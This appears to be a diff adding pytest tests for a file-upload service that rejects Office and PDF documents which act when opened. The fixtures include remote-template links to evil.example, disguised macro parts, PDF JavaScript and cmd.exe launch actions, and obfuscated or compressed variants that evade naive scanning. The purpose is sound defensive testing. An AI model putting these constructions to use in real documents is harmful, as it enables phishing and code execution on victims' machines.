@@ -1,0 +1,109 @@
+"""Papers that do something when they are opened, however well it is hidden; and those that only look like it."""
+
+from __future__ import annotations
+
+import zipfile
+import zlib
+from io import BytesIO
+from pathlib import Path
+from typing import Final
+
+import pytest
+
+from tests.wxsvc.test_files import excel_workbook, word_document
+from wxsvc.files import Files
+from wxsvc.filetypes import FileRefused, Reason
+
+RELATIONS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def with_part(content: bytes, name: str, part: str | bytes) -> bytes:
+    """The same file with one more part, or with this one in place of its own."""
+    out = BytesIO()
+    with zipfile.ZipFile(BytesIO(content)) as given, zipfile.ZipFile(out, "w") as made:
+        for each in given.namelist():
+            if each != name:
+                made.writestr(each, given.read(each))
+        made.writestr(name, part)
+    return out.getvalue()
+
+
+def refers(kind: str, target: str, content: bytes = b"", encoding: str = "utf-8") -> bytes:
+    """A Word file whose settings refer to something outside."""
+    text = (
+        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="r1" TargetMode="External"'
+        f' Type="{OFFICE}/{kind}" Target="{target}"/></Relationships>'
+    )
+    return with_part(content or word_document(), "word/_rels/settings.xml.rels", text.encode(encoding))
+
+
+def types(extra: str) -> bytes:
+    with zipfile.ZipFile(BytesIO(excel_workbook())) as given:
+        text = given.read("[Content_Types].xml").decode()
+    return with_part(excel_workbook(), "[Content_Types].xml", text.replace("</Types>", f"{extra}</Types>"))
+
+
+def pdf(*objects: bytes) -> bytes:
+    return b"%PDF-1.7\n" + b"".join(objects) + b"trailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def packed(content: bytes) -> bytes:
+    """Objects in a stream, as PDF writers pack them."""
+    body = zlib.compress(b"5 0 " + content)
+    return (
+        b"9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream\nendobj\n"
+        % (
+            len(body),
+            body,
+        )
+    )
+
+
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (refers("attachedTemplate", "https://evil.example/t.dotm"), Reason.REMOTE),
+        (refers("attachedTemplate", "\\\\evil.example\\t.dotm"), Reason.REMOTE),
+        (refers("attachedTemplate", "file://evil.example/t.dotm"), Reason.REMOTE),
+        (refers("attachedTemplate", "&#104;ttps://evil.example/t"), Reason.REMOTE),
+        (refers("oleObject", "mhtml:https://evil.example/x!x"), Reason.REMOTE),
+        (refers("frame", "https://evil.example/", encoding="utf-16"), Reason.REMOTE),
+        (with_part(excel_workbook(), "xl/macrosheets/sheet1.xml", "<x/>"), Reason.MACROS),
+        (with_part(word_document(), "word/activeX/activeX1.xml", "<x/>"), Reason.MACROS),
+        (with_part(word_document(), "WORD\\VBAPROJECT.BIN", b"x"), Reason.MACROS),
+        (
+            types('<Override PartName="/xl/a.png" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
+            Reason.MACROS,
+        ),
+        (refers("vbaProject", "a.png"), Reason.MACROS),
+        (pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"), Reason.SCRIPTED),
+        (pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/URI>>endobj\n"), Reason.SCRIPTED),
+        (pdf(b"1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj\n"), Reason.SCRIPTED),
+        (pdf(b"1 0 obj<</Names<</#4a#61vaScript 2 0 R>>>>endobj\n"), Reason.SCRIPTED),
+        (pdf(packed(b"<</S/JavaScript/JS(x)>>")), Reason.SCRIPTED),
+        (pdf(b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n"), Reason.ATTACHMENTS),
+        (pdf(packed(b"<</Type/EmbeddedFile>>")), Reason.ATTACHMENTS),
+    ],
+)
+def test_what_acts_by_itself_is_refused_by_content(tmp_path: Path, content: bytes, reason: Reason) -> None:
+    with pytest.raises(FileRefused) as refused:
+        Files(tmp_path, 2**20).store_paper(BytesIO(content))
+    assert refused.value.reason is reason
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        refers("attachedTemplate", "file:///C:\\Users\\wang\\Normal.dotm"),
+        refers("hyperlink", "https://www.example.cn/"),
+        pdf(b"1 0 obj<</OpenAction[3 0 R/FitH 0]>>endobj\n"),
+        pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj\n[3 0 R /Fit]\nendobj\n"),
+        pdf(b"1 0 obj<</Length 20>>\nstream\n(see /JavaScript and /Launch)\nendstream\nendobj\n"),
+        pdf(packed(b"<</Type/Page>>")),
+        pdf(b"9 0 obj<</Type /ObjStm>>\nstream\nnot packed at all\nendstream\nendobj\n"),
+    ],
+)
+def test_what_only_looks_like_it_is_kept(tmp_path: Path, content: bytes) -> None:
+    assert Files(tmp_path, 2**20).store_paper(BytesIO(content)).size == len(content)
